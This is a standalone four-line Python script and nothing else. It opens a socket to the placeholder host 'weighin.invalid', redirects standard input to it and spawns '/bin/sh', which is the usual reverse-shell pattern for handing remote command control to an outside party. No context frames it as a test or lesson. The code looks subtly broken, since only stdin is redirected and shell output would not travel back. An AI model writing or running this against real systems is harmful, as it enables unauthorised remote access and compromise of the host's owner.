import os, pty, socket
s = socket.create_connection(('weighin.invalid', 9))
os.dup2(s.fileno(), 0)
pty.spawn('/bin/sh')
